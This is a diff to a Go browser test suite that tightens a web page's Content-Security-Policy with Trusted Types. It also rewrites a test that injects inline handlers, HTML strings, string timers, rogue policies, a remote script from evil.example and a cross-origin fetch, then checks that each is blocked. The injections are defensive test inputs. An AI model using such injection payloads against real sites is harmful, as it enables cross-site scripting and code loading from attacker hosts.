@@ -23,7 +23,7 @@ import (
 // header a static host should send with the page (docs/RELIABILITY.md,
 // "Page"). frame-ancestors is left out on purpose: course pages embed the
 // playground in an iframe.
-const pagePolicy = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'"
+const pagePolicy = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'; require-trusted-types-for 'script'; trusted-types minis3 minis3-xml"
 
 // watcher runs in every document of a watched tab before the page's own
 // scripts. It records Content-Security-Policy violations, uncaught errors,
@@ -98,7 +98,8 @@ func policySite(t *testing.T) string {
 // TestIndexPolicyForbidsInlineAndRemote reads the policy of static/index.html:
 // it is pagePolicy, which allows scripts and styles from the page's own
 // origin only (no inline code, no eval, no remote origin), WebAssembly
-// compilation, and no directive a meta tag cannot carry.
+// compilation, Trusted Types through the page's two policies only, and no
+// directive a meta tag cannot carry.
 func TestIndexPolicyForbidsInlineAndRemote(t *testing.T) {
 	html, err := os.ReadFile(filepath.Join(chrome.RepoRoot(t), "static", "index.html"))
 	if err != nil {
@@ -121,7 +122,7 @@ func TestIndexPolicyForbidsInlineAndRemote(t *testing.T) {
 	}
 	for name, sources := range directives {
 		for _, s := range sources {
-			if s != "'self'" && s != "'none'" && !(name == "script-src" && s == "'wasm-unsafe-eval'") {
+			if s != "'self'" && s != "'none'" && !(name == "script-src" && s == "'wasm-unsafe-eval'") && name != "require-trusted-types-for" && name != "trusted-types" {
 				t.Errorf("%s allows %s", name, s)
 			}
 		}
@@ -130,6 +131,12 @@ func TestIndexPolicyForbidsInlineAndRemote(t *testing.T) {
 		if directives[name] == nil {
 			t.Errorf("the policy lacks %s", name)
 		}
+	}
+	if !slices.Equal(directives["require-trusted-types-for"], []string{"'script'"}) {
+		t.Errorf("require-trusted-types-for %v, want 'script'", directives["require-trusted-types-for"])
+	}
+	if !slices.Equal(directives["trusted-types"], []string{"minis3", "minis3-xml"}) {
+		t.Errorf("trusted-types %v, want the page's two policies, minis3 and minis3-xml", directives["trusted-types"])
 	}
 	if !slices.Equal(directives["default-src"], []string{"'none'"}) {
 		t.Errorf("default-src %v, want 'none'", directives["default-src"])
@@ -182,28 +189,29 @@ func TestFullFlowRunsUnderPolicy(t *testing.T) {
 	wantNoProblems(t, p)
 }
 
-// TestPolicyBlocksInjectedCode proves the policy is active in the page: an
-// inline event handler, an inline script, a remote script, a fetch to
-// another origin, eval, a javascript: URL and an inline style attribute,
-// each added through the DOM, are blocked with a violation event, and none
-// of the code runs.
+// TestPolicyBlocksInjectedCode proves the policy is active in the page:
+// code added through the DOM as an inline event handler, an inline script,
+// an HTML string, a script URL, a remote script, a fetch to another origin,
+// a string timer, a javascript: URL or an inline style attribute is
+// refused, with a violation event each, and none of it runs; no script
+// makes a Trusted Types policy but the page's own two, once.
 func TestPolicyBlocksInjectedCode(t *testing.T) {
 	p := openWatched(t, site(t)+"/", 1280, 800)
 	waitReady(t, p)
-	got := chrome.Eval[map[string]bool](t, p, `
-		const img = document.createElement("img");
-		img.setAttribute("onerror", "window.__pwned = 'onerror'");
-		img.src = "missing.png";
-		document.body.append(img);
-		const inline = document.createElement("script");
-		inline.textContent = "window.__pwned = 'inline script'";
-		document.body.append(inline);
-		const remote = document.createElement("script");
-		remote.src = "https://evil.example/x.js";
-		document.body.append(remote);
-		let fetchBlocked = false;
-		try { await fetch("https://evil.example/data"); } catch { fetchBlocked = true; }
-		setTimeout("window.__pwned = 'string timer'");
+	got := chrome.Eval[map[string]string](t, p, `
+		const out = {};
+		// Each injection either throws (Trusted Types refuse the string
+		// before anything happens) or is blocked when it would run.
+		const attempt = (name, f) => { try { f(); out[name] = "no exception"; } catch (e) { out[name] = e.name; } };
+		attempt("onerror attribute", () => document.createElement("img").setAttribute("onerror", "window.__pwned = 'onerror'"));
+		attempt("inline script text", () => { document.createElement("script").textContent = "window.__pwned = 'inline script'"; });
+		attempt("HTML string", () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\"window.__pwned = 'html'\">"));
+		attempt("script URL of the page", () => { document.createElement("script").src = "/app/main.js"; });
+		attempt("string timer", () => setTimeout("window.__pwned = 'string timer'"));
+		attempt("another policy", () => trustedTypes.createPolicy("evil", { createHTML: (s) => s }));
+		attempt("a second minis3-xml policy", () => trustedTypes.createPolicy("minis3-xml", { createHTML: (s) => s }));
+		attempt("remote script", () => { document.createElement("script").src = "https://evil.example/x.js"; });
+		out["fetch to another origin"] = await fetch("https://evil.example/data").then(() => "fetched", (e) => e.name);
 		const a = document.createElement("a");
 		a.href = "javascript:window.__pwned = 'javascript url'";
 		document.body.append(a);
@@ -211,27 +219,39 @@ func TestPolicyBlocksInjectedCode(t *testing.T) {
 		const styled = document.createElement("p");
 		styled.setAttribute("style", "color: red");
 		document.body.append(styled);
-		return { fetchBlocked, styleBlocked: getComputedStyle(styled).color !== "rgb(255, 0, 0)" };`)
-	for name, ok := range got {
-		if !ok {
-			t.Errorf("%s: false", name)
+		out["style attribute"] = getComputedStyle(styled).color === "rgb(255, 0, 0)" ? "applied" : "blocked";
+		return out;`)
+	want := map[string]string{
+		"onerror attribute": "TypeError", "inline script text": "TypeError", "HTML string": "TypeError",
+		"script URL of the page": "TypeError", "remote script": "TypeError", "string timer": "TypeError",
+		"another policy": "TypeError", "a second minis3-xml policy": "TypeError",
+		"fetch to another origin": "TypeError", "style attribute": "blocked",
+	}
+	for name, w := range want {
+		if got[name] != w {
+			t.Errorf("%s: %q, want %q", name, got[name], w)
 		}
 	}
-	p.WaitFor(t, `document.querySelector("img[onerror]").complete`)
-	// One violation per injection (the inline script and the javascript:
-	// URL both count as script-src-elem "inline").
-	want := []string{
-		"csp script-src-attr blocked inline",
-		"csp script-src-elem blocked inline",
-		"csp script-src-elem blocked https://evil.example/x.js",
+	// One violation per injection, in order (the javascript: URL counts
+	// as script-src-elem "inline"); a Trusted Types report ends with a
+	// sample of the refused string, which is left out here.
+	violations := []string{
+		"csp require-trusted-types-for blocked trusted-types-sink Element onerror|",
+		"csp require-trusted-types-for blocked trusted-types-sink HTMLScriptElement textContent|",
+		"csp require-trusted-types-for blocked trusted-types-sink Element insertAdjacentHTML|",
+		"csp require-trusted-types-for blocked trusted-types-sink HTMLScriptElement src|/app/main.js",
+		"csp require-trusted-types-for blocked trusted-types-sink Window setTimeout|",
+		"csp trusted-types blocked trusted-types-policy evil",
+		"csp trusted-types blocked trusted-types-policy minis3-xml",
+		"csp require-trusted-types-for blocked trusted-types-sink HTMLScriptElement src|https://evil.example/x.js",
 		"csp connect-src blocked https://evil.example/data",
-		"csp script-src blocked eval",
 		"csp script-src-elem blocked inline",
 		"csp style-src-attr blocked inline",
 	}
 	p.WaitFor(t, `(() => {
 		const seen = window.__problems.map((x) => x.trim());
-		return `+quote(strings.Join(want, "\n"))+`.split("\n").every((w, i, all) => seen.filter((x) => x === w).length >= all.filter((x) => x === w).length);
+		const want = `+quote(strings.Join(violations, "\n"))+`.split("\n");
+		return seen.length === want.length && want.every((w, i) => seen[i].startsWith(w));
 	})()`)
 	if v := chrome.Eval[any](t, p, `return window.__pwned ?? null`); v != nil {
 		t.Errorf("injected code ran: window.__pwned = %v", v)
